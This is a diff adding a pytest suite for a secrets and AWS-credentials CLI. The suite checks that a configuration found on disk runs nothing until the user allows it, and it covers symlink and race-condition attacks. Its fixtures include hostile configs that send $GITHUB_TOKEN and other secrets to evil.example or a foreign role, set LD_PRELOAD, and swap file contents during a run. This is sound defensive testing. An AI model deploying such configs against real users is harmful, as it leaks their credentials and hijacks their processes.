@@ -1,0 +1,507 @@
+"""A configuration that was found does nothing before the user says so, whichever way it is asked for."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+import dsops as library
+from dsops.cli import hook_load
+from dsops.cli.allow import ask_permission
+from dsops.cli.command import parse
+from dsops.config import files as config_files
+from dsops.config import load
+from dsops.config.powers import powers_of
+from dsops.errors import ConfigError, ConfigUnreadable, NotAllowed
+from dsops.plan import Plan
+from dsops.resolve import Resolver
+from dsops.stores import StoreTypes
+from tests.fakes import make_runtime
+from tests.permission import allow_found
+from tests.terminal import Terminal
+from tests.unit.cli.stub_aws import Agent, Dsops, StubAws
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+ROLE = "arn:aws:iam::111122223333:role/Target"
+
+HANDING_OUT = {
+    "exec": "exec --env production -- printenv TOKEN",
+    "exec with a literal": "exec --env plain -- printenv PLAIN",
+    "exec with a session": "exec --credentials target -- true",
+    "exec that serves": "exec --credentials target --serve -- true",
+    "exec that masks": "exec --env production --mask -- true",
+    "get": "get --env production TOKEN",
+    "get of a literal": "get --env plain PLAIN",
+    "render": "render --env production",
+    "render to a file": "render --env plain --out out.env",
+    "credentials": "credentials target",
+    "credentials of a profile": "--config dsops.yaml credentials target --for-profile target",
+    "console": "console target",
+    "login": "login target",
+    "logout": "logout target",
+    "whoami": "whoami target",
+    "doctor": "doctor --env production",
+    "explain": "explain --env production",
+    "explain with policies": "explain --env production --policies seed.json",
+    "explain a message": "explain target --message message.txt",
+    "revoke": "revoke target",
+    "revoke with a store": f"revoke {ROLE} --apply --yes --before 2020-01-01T00:00:00Z --with target",
+    "export": "export aws-config",
+    "export a named file": "--config dsops.yaml export aws-config",
+    "graph --check": "graph --check",
+    "plan --sandbox": "plan --env production --check --sandbox http://127.0.0.1:9",
+    "audit sql": "audit sql summary --run --begin 2026-11-01 --store target",
+}
+"""Every command line that calls out with a configuration, or hands something of it on."""
+
+COMPUTING = {
+    "validate": "validate",
+    "validate an environment": "validate --env production",
+    "plan": "plan --env production",
+    "graph": "graph",
+    "policy generate": "policy generate --env production",
+    "schema": "schema",
+    "stores": "stores",
+    "completion": "complete -- get --env production T",
+}
+
+
+@pytest.fixture
+def aws() -> Iterator[StubAws]:
+    """STS and Secrets Manager, which count their calls."""
+    with StubAws() as server:
+        yield server
+
+
+@pytest.fixture
+def dsops(tmp_path: Path, aws: StubAws) -> Dsops:
+    """The program, beside a configuration that nobody has allowed."""
+    (tmp_path / "message.txt").write_text(f"User: x is not authorized to perform: sts:AssumeRole on resource: {ROLE}\n")
+    (tmp_path / "seed.json").write_text("{}")
+    return Dsops(tmp_path, aws)
+
+
+PROGRAM = [sys.executable, "-c", "import sys; from dsops.__main__ import main; sys.exit(main())"]
+
+
+def run(dsops: Dsops, *words: str, **environ: str) -> subprocess.CompletedProcess[str]:
+    """One run without a terminal, of which the user has allowed nothing (`Dsops.run` allows)."""
+    return subprocess.run(
+        [*PROGRAM, *words], cwd=dsops.folder, env={**dsops.environ, **environ}, capture_output=True, text=True,
+        check=False, stdin=subprocess.DEVNULL, start_new_session=True, timeout=60,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("line", HANDING_OUT.values(), ids=HANDING_OUT)
+def test_no_command_carries_it_out(dsops: Dsops, aws: StubAws, line: str) -> None:
+    """No call with its roles, no file, nothing on stdout; the error names the file and the command to type."""
+    done = run(dsops, *line.split())
+    assert "error[config.not-allowed]: you have not allowed dsops.yaml as it is now" in done.stderr + done.stdout
+    assert "`dsops allow" in done.stderr + done.stdout
+    assert done.returncode != 0
+    assert not {"AssumeRole", "GetSecretValue", "PutRolePolicy"} & set(aws.calls)
+    assert not (dsops.folder / "out.env").exists()
+    assert "hush-token" not in done.stdout
+
+
+@pytest.mark.parametrize("line", COMPUTING.values(), ids=COMPUTING)
+def test_what_only_computes_asks_nothing(dsops: Dsops, aws: StubAws, line: str) -> None:
+    """And makes no call."""
+    done = run(dsops, *line.split())
+    assert (0, []) == (done.returncode, aws.calls), done.stderr
+    assert "config.not-allowed" not in done.stderr
+
+
+def test_once_it_is_allowed_it_works(dsops: Dsops) -> None:
+    """Until its permission is taken back."""
+    shown = run(dsops, "allow").stdout
+    assert f"assumes  {ROLE} (target)" in shown
+    assert "hush-token\n" == run(dsops, *HANDING_OUT["exec"].split()).stdout
+    assert 0 == run(dsops, "allow", "--revoke").returncode
+    assert 125 == run(dsops, *HANDING_OUT["exec"].split()).returncode
+
+
+def test_a_pipeline_owns_its_checkout(dsops: Dsops) -> None:
+    """`CI=true` allows; DSOPS_TRUST=ask does not, nor does a CI that is not one."""
+    line = HANDING_OUT["get of a literal"].split()
+    for environ, expected in (
+        ({"CI": "true"}, 0),
+        ({"CI": "true", "DSOPS_TRUST": "ask"}, 2),
+        ({"CI": "false"}, 2),
+    ):
+        assert expected == run(dsops, *line, **environ).returncode
+
+
+@pytest.mark.parametrize("name", ["DSOPS_CONFIG", "DSOPS_HOOK_VARS", "DSOPS_HOOK_WAS_PATH", "dsops_config"])
+@pytest.mark.parametrize("line", ["validate", "plan --env dev", "exec --env dev -- true", "get X", "render", "allow"])
+def test_an_environment_never_sets_a_variable_of_dsops(dsops: Dsops, name: str, line: str) -> None:
+    """Allowed or not: `DSOPS_CONFIG` would name another file for every dsops that the command starts."""
+    (dsops.folder / "dsops.yaml").write_text(
+        "version: 1\nsecretStores: {lit: {type: literal, values: {a: b}}}\ndefault_env: dev\n"
+        f"envs: {{dev: {{X: {{literal: x}}, {name}: {{literal: ./tools/x.yaml}}}}}}\n"
+    )
+    for environ in ({}, {"CI": "true"}, {"DSOPS_CONFIG": "dsops.yaml"}):
+        done = run(dsops, *line.split(), **environ)
+        assert done.returncode in {2, 6, 125}
+        assert f"`{name}` can't be set by an environment" in done.stdout + done.stderr
+
+
+def test_a_nested_dsops_asks_for_the_file_that_it_finds(dsops: Dsops) -> None:
+    """The permission of the outer file is none for another one below it."""
+    inner = dsops.folder / "inner"
+    inner.mkdir()
+    (inner / "dsops.yaml").write_text("version: 1\nenvs: {dev: {X: {literal: inner}}}\n")
+    run(dsops, "allow")
+    nested = "cd inner && " + " ".join(f"'{word}'" for word in (*PROGRAM, "get", "X"))
+    done = run(dsops, "exec", "--env", "plain", "--", "sh", "-c", nested)
+    assert (2, "") == (done.returncode, done.stdout)
+    assert "error[config.not-allowed]" in done.stderr
+
+
+def test_the_library_asks_as_well(dsops: Dsops, monkeypatch: pytest.MonkeyPatch) -> None:
+    """`dsops.open()` finds a file; one that is named is the program's own."""
+    monkeypatch.chdir(dsops.folder)
+    with pytest.raises(NotAllowed) as raised:
+        library.open(environ=dsops.environ)
+    assert 'dsops.open("dsops.yaml")' in raised.value.hint
+    assert "info" == library.open("dsops.yaml", dsops.environ).secrets("plain")["PLAIN"].reveal()
+
+
+def test_a_plan_of_it_can_not_be_carried_out_whichever_command_made_it(dsops: Dsops) -> None:
+    """What stands behind the commands' own question."""
+    config = load(folder=str(dsops.folder), environ={})
+    assert not config.is_allowed
+    plan = Plan("plain", (), {}, {}, 0, (), unallowed=config.files[0].shown)
+    runtime = make_runtime({})
+    from dsops.aws.client import make_client
+    from dsops.cache import CredentialCache
+
+    with pytest.raises(NotAllowed):
+        Resolver(plan, runtime, make_client(runtime), CredentialCache(runtime.now))
+
+
+class TestThroughTheAgent:
+    """The agent reads the file by itself, and judges what it has read."""
+
+    @pytest.fixture
+    def agent(self, tmp_path: Path, aws: StubAws) -> Iterator[Agent]:
+        """One that runs already."""
+        with Agent(tmp_path, aws) as program:
+            program.run("exec", "--env", "plain", "--", "true")
+            run(program, "allow", "--revoke")
+            yield program
+
+    @pytest.mark.parametrize(
+        "line", ["exec --env plain -- printenv PLAIN", "get --env plain PLAIN", "credentials target"]
+    )
+    def test_it_answers_nothing_before(self, agent: Agent, aws: StubAws, line: str) -> None:
+        """Neither an `exec` nor what is answered whole; then it does, without asking."""
+        done = run(agent, *line.split())
+        assert "error[config.not-allowed]" in done.stderr
+        assert ("", []) == (done.stdout, aws.calls)
+        run(agent, "allow")
+        assert 0 == run(agent, *line.split()).returncode
+
+    def test_a_file_that_is_swapped_behind_the_clients_back_is_judged_again(self, agent: Agent) -> None:
+        """The client has read and allowed one content, and the agent finds another: the client's own counts."""
+        run(agent, "allow")
+        program = (
+            "import sys\n"
+            "from dsops.cli import project\n"
+            "fetch = project.fetch\n"
+            "def late(plan, arguments, runtime, variable=''):\n"
+            "    text = open('dsops.yaml').read()\n"
+            "    open('dsops.yaml', 'w').write(text.replace('literal: info', 'literal: evil'))\n"
+            "    return fetch(plan, arguments, runtime, variable)\n"
+            "project.fetch = late\n"
+            "from dsops.cli import main\n"
+            "sys.exit(main())\n"
+        )
+        done = subprocess.run(
+            [sys.executable, "-c", program, "render", "--env", "plain"], cwd=agent.folder, env=agent.environ,
+            capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL, start_new_session=True,
+        )  # fmt: skip
+        assert 'PLAIN="info"' in done.stdout.replace("'", '"').replace("PLAIN=info", 'PLAIN="info"')
+        assert "evil" not in done.stdout
+
+
+class TestTheQuestion:
+    """On a terminal; the answer is no unless it is yes."""
+
+    def asked(self, folder: Path, *, answer: bool | None) -> tuple[str, bool]:
+        """What was shown, and whether it is allowed then."""
+        questions: list[str] = []
+
+        def confirm(question: str) -> bool | None:
+            questions.append(question)
+            return answer
+
+        environ = {"HOME": str(folder)}
+        config = load(folder=str(folder), environ=environ, types=StoreTypes())
+        runtime = make_runtime(environ, folder=str(folder))._replace(confirm=confirm)
+        try:
+            allowed = ask_permission(config, runtime).is_allowed
+        except NotAllowed:
+            allowed = False
+        return questions[0], allowed
+
+    @pytest.mark.parametrize(("answer", "expected"), [(True, True), (False, False), (None, False)])
+    def test_only_yes_allows(self, tmp_path: Path, *, answer: bool | None, expected: bool) -> None:
+        """It is remembered as it was read."""
+        (tmp_path / "dsops.yaml").write_text("version: 1\nenvs: {dev: {A: {literal: x}}}\n")
+        question, allowed = self.asked(tmp_path, answer=answer)
+        assert "sets     A (dev)" in question
+        assert expected is allowed
+        assert expected is load(folder=str(tmp_path), environ={"HOME": str(tmp_path)}).is_allowed
+
+    def test_it_is_asked_on_the_terminal_and_never_on_stdout(self, dsops: Dsops) -> None:
+        """A pipe gets the value alone; a no is an error, and the next run asks again."""
+        (dsops.folder / "ask").write_text(
+            "cd " + str(dsops.folder) + "\n"
+            + "".join(f"export {name}='{value}'\n" for name, value in dsops.environ.items())
+            + " ".join(f"'{word}'" for word in (*PROGRAM, "get", "--env", "plain", "PLAIN")) + " > out\n"
+        )
+        for typed, expected, code in (("\n", "", 2), ("y\n", "info", 0)):
+            with Terminal(["sh", str(dsops.folder / "ask")]) as terminal:
+                shown = terminal.expect("? [y/N] ")
+                terminal.type(typed)
+                assert code == terminal.code()
+            assert f"assumes  {ROLE} (target)\r\n" in shown
+            assert expected == (dsops.folder / "out").read_text()
+
+    def test_what_leaves_in_a_request_is_shown(self, tmp_path: Path) -> None:
+        """A session name sends a token of the user's to the trail of somebody else's account."""
+        (tmp_path / "dsops.yaml").write_text(
+            "version: 1\nsecretStores:\n  evil:\n    type: aws.sts\n"
+            "    role_arn: arn:aws:iam::999999999999:role/Evil\n    role_session_name: ${GITHUB_TOKEN}\n"
+            "    tags: {who: '${USER}', more: '${SECRET_OF_MINE:-x}'}\n    mfa_process: [./tool, --now]\n"
+            "    serial_number: arn:aws:iam::1:mfa/a\n    endpoint_url: https://evil.example\n    profile: admin\n"
+            "envs:\n  dev:\n    A: {from: {store: evil, key: access_key_id}}\n    B: {literal: '${GITHUB_TOKEN}'}\n"
+            "    LD_PRELOAD: {literal: ./x.so}\n    AWS_SECRET_ACCESS_KEY: {literal: hush}\n"
+        )
+        question, _ = self.asked(tmp_path, answer=None)
+        for line in (
+            "assumes  arn:aws:iam::999999999999:role/Evil (evil)",
+            "uses     your AWS profile admin (evil)",
+            "sends    your $GITHUB_TOKEN in role_session_name (evil)",
+            "sends    your $USER in tags (evil)",
+            "sends    your $SECRET_OF_MINE in tags (evil)",
+            "calls    https://evil.example (evil)",
+            "runs     ./tool --now (evil)",
+            "sets     B with your $GITHUB_TOKEN (dev)",
+            "steers   the dynamic loader (LD_*) by LD_PRELOAD=./x.so (dev)",
+            "steers   AWS (AWS_*) by AWS_SECRET_ACCESS_KEY (dev)",
+        ):
+            assert f"  {line}\n" in question
+        assert "hush" not in question
+
+    def test_what_has_changed_is_shown(self, tmp_path: Path) -> None:
+        """What is new and what is gone, next to the question."""
+        (tmp_path / "dsops.yaml").write_text("version: 1\nenvs: {dev: {A: {literal: x}, B: {literal: x}}}\n")
+        self.asked(tmp_path, answer=True)
+        (tmp_path / "dsops.yaml").write_text(
+            "version: 1\nenvs: {dev: {A: {literal: x}, PIP_INDEX_URL: {literal: x}}}\n"
+        )
+        question, _ = self.asked(tmp_path, answer=None)
+        expected = (
+            "Since you allowed it, this has changed:\n"
+            "  - sets     B (dev)\n"
+            "  + steers   pip (PIP_*) by PIP_INDEX_URL=x (dev)\n"
+        )
+        assert expected in question
+
+    def test_control_characters_of_the_file_do_not_reach_the_terminal(self, tmp_path: Path) -> None:
+        """A file can't draw over its own description."""
+        (tmp_path / "dsops.yaml").write_text('version: 1\nenvs: {dev: {PATH: {literal: "\\e[2K\\rfine\\nsets"}}}\n')
+        done = subprocess.run(
+            [*PROGRAM, "allow"], cwd=tmp_path, env={"HOME": str(tmp_path), "PATH": os.environ["PATH"]},
+            capture_output=True, check=True,
+        )  # fmt: skip
+        assert b"\x1b" not in done.stdout
+        assert b"\r" not in done.stdout
+        assert 1 == done.stdout.count(b"  steers ")
+
+
+class TestLinksAndSwaps:
+    """A link is its own file, and what was read is what counts."""
+
+    @pytest.fixture
+    def folder(self, tmp_path: Path) -> Path:
+        """A folder with an allowed file, and another folder that links to it."""
+        real = tmp_path / "real"
+        real.mkdir()
+        (real / "dsops.yaml").write_text("version: 1\nenvs: {dev: {A: {literal: real}}}\n")
+        allow_found(real, {"HOME": str(tmp_path)})
+        (tmp_path / "linked").mkdir()
+        (tmp_path / "linked" / "dsops.yaml").symlink_to(real / "dsops.yaml")
+        return tmp_path
+
+    def is_allowed(self, folder: Path, name: str) -> bool:
+        """Whether the file that is found there may be carried out."""
+        return load(folder=str(folder / name), environ={"HOME": str(folder)}).is_allowed
+
+    def test_a_link_has_not_its_targets_permission(self, folder: Path) -> None:
+        """Relative commands run elsewhere there, and the link may point elsewhere tomorrow."""
+        assert [True, False] == [self.is_allowed(folder, name) for name in ("real", "linked")]
+        allow_found(folder / "linked", {"HOME": str(folder)})
+        assert self.is_allowed(folder, "linked")
+
+    def test_a_link_that_points_elsewhere_asks_again(self, folder: Path) -> None:
+        """Also to the same content."""
+        allow_found(folder / "linked", {"HOME": str(folder)})
+        (folder / "copy.yaml").write_bytes((folder / "real" / "dsops.yaml").read_bytes())
+        (folder / "linked" / "dsops.yaml").unlink()
+        (folder / "linked" / "dsops.yaml").symlink_to(folder / "copy.yaml")
+        assert not self.is_allowed(folder, "linked")
+
+    def test_a_linked_folder_is_the_folder(self, folder: Path) -> None:
+        """Folders are resolved: `cd` through a link is the same place."""
+        (folder / "alias").symlink_to(folder / "real")
+        assert self.is_allowed(folder, "alias")
+
+    def test_a_link_that_is_swapped_while_it_is_opened_is_not_followed(
+        self, folder: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Between the look at the path and the opening: the file that was looked at is opened, or none."""
+        path, evil = folder / "real" / "dsops.yaml", folder / "evil.yaml"
+        evil.write_text("version: 1\nenvs: {dev: {A: {literal: evil}}}\n")
+        real_open = os.open
+
+        def swapping(name: str, flags: int, mode: int = 0o777) -> int:
+            if os.fspath(name) == str(path):
+                path.unlink()
+                path.symlink_to(evil)
+            return real_open(name, flags, mode)
+
+        monkeypatch.setattr(os, "open", swapping)
+        with pytest.raises(ConfigUnreadable):
+            self.is_allowed(folder, "real")
+
+    def test_a_file_that_is_swapped_after_it_was_judged_is_not_what_runs(
+        self, folder: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """One read: what is judged is what is planned."""
+        path = folder / "real" / "dsops.yaml"
+        real_digest = config_files.digest
+
+        def swapping(data: bytes) -> str:
+            path.write_text("version: 1\nenvs: {dev: {A: {literal: evil}}}\n")
+            return real_digest(data)
+
+        monkeypatch.setattr(config_files, "digest", swapping)
+        config = load(folder=str(folder / "real"), environ={"HOME": str(folder)})
+        literal = config.environments["dev"].variables["A"].literal
+        assert literal is not None
+        assert (True, "real") == (config.is_allowed, literal.text)
+
+    def test_a_file_that_others_may_write_is_refused_by_name(self, dsops: Dsops) -> None:
+        """`dsops allow` allows it no more than a command carries it out; `doctor --fix` closes it."""
+        path = dsops.folder / "dsops.yaml"
+        run(dsops, "allow")
+        path.chmod(0o666)
+        for line in ("get --env plain PLAIN", "allow"):
+            assert "other users may write dsops.yaml" in run(dsops, *line.split()).stderr
+        run(dsops, "doctor", "--fix")
+        assert "info" == run(dsops, "get", "--env", "plain", "PLAIN").stdout
+
+    @pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give files away")
+    def test_another_owner_asks_again_or_is_refused(self, folder: Path) -> None:
+        """Of root's own files too: who owns a file can change it."""
+        os.chown(folder / "real" / "dsops.yaml", 12345, -1)
+        with pytest.raises(ConfigUnreadable):
+            self.is_allowed(folder, "real")
+        config = load(folder=str(folder / "real"), environ={"HOME": str(folder), "SUDO_UID": "12345"})
+        assert not config.is_allowed
+
+
+class TestTheHook:
+    """Entering a folder."""
+
+    def hook_load(self, folder: Path) -> str:
+        """Why the folder's environment is not loaded."""
+        runtime = make_runtime({"HOME": str(folder), "XDG_RUNTIME_DIR": str(folder)}, folder=str(folder))
+        arguments = parse(hook_load.COMMAND, ["bash", "1"], runtime.environ, name="hook-load")
+        with pytest.raises(NotAllowed) as raised:
+            hook_load._load(str(folder / "dsops.yaml"), arguments, runtime, {})
+        return raised.value.message
+
+    @pytest.mark.parametrize("is_known", [False, True])
+    def test_nothing_is_parsed_that_is_not_allowed(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, is_known: bool
+    ) -> None:
+        """A hundred included files of a megabyte took three minutes at every prompt."""
+        path = tmp_path / "dsops.yaml"
+        path.write_text("version: 1\n")
+        if is_known:
+            from dsops.config import HOOKED
+            from dsops.config.allow import allow
+
+            allow(load(folder=str(tmp_path), environ={"HOME": str(tmp_path)}).files, {"HOME": str(tmp_path)}, HOOKED)
+        names = [f"part{number}.yaml" for number in range(90)]
+        for name in names:
+            (tmp_path / name).write_text("x: " + "[" * 1000)
+        path.write_text(f"version: 1\ninclude: [{', '.join(names)}]\n")
+
+        def parsed(*_: object) -> None:
+            raise AssertionError("a file that is not allowed was parsed")
+
+        monkeypatch.setattr(config_files, "parse_yaml", parsed)
+        expected = "you have not allowed that, as the file is now" if is_known else "you have not allowed that"
+        assert expected == self.hook_load(tmp_path)
+
+    def test_a_pipeline_is_no_permission_for_it(self, tmp_path: Path) -> None:
+        """A shell with CI=true loads no folder that is entered."""
+        (tmp_path / "dsops.yaml").write_text("version: 1\nenvs: {dev: {A: {literal: x}}}\n")
+        config = load(folder=str(tmp_path), environ={"HOME": str(tmp_path), "CI": "true"}, permission="hook-allow")
+        assert not config.is_allowed
+
+
+@pytest.mark.parametrize("line", ["import aws-config --out dsops.yaml", "migrate --write"])
+def test_what_import_and_migrate_write_is_allowed(dsops: Dsops, line: str) -> None:
+    """As it was written, and no longer once it is edited."""
+    path, home = dsops.folder / "dsops.yaml", {"HOME": str(dsops.folder)}
+    if line.startswith("import"):
+        path.unlink()
+        (dsops.folder / ".aws").mkdir()
+        (dsops.folder / ".aws" / "config").write_text(
+            "[profile p]\nrole_arn = arn:aws:iam::111111111111:role/R\nsource_profile = q\nregion = us-east-1\n"
+            "[profile q]\n"
+        )
+    else:
+        path.write_text(path.read_text().replace("secretStores:", "providers:"))
+    done = run(dsops, *line.split(), **home)
+    assert 0 == done.returncode, done.stderr
+    assert load(folder=str(dsops.folder), environ=home).is_allowed
+    path.write_bytes(path.read_bytes() + b"# edited\n")
+    assert not load(folder=str(dsops.folder), environ=home).is_allowed
+
+
+def test_what_init_writes_is_allowed(dsops: Dsops) -> None:
+    """The user has just asked for it; but not what another file adds to it."""
+    run(dsops, "init", "--force")
+    line = ["get", "--env", "development", "LOG_LEVEL"]
+    assert "debug" == run(dsops, *line).stdout
+    (dsops.folder / "dsops.local.yaml").write_text("version: 1\nenvs: {development: {LOG_LEVEL: {literal: evil}}}\n")
+    run(dsops, "init", "--force")
+    assert 2 == run(dsops, *line).returncode
+
+
+def test_a_configuration_of_no_power_says_so(tmp_path: Path) -> None:
+    """The list is empty then, and the file is asked for all the same."""
+    (tmp_path / "dsops.yaml").write_text("version: 1\n")
+    assert [] == powers_of(load(folder=str(tmp_path), environ={}), StoreTypes())
+
+
+def test_a_broken_file_is_an_error_of_the_file(dsops: Dsops) -> None:
+    """What can't be read is not asked about."""
+    (dsops.folder / "dsops.yaml").write_text("version: [")
+    with pytest.raises(ConfigError):
+        load(folder=str(dsops.folder), environ={})
+    assert "config.not-allowed" not in run(dsops, "get", "X").stderr
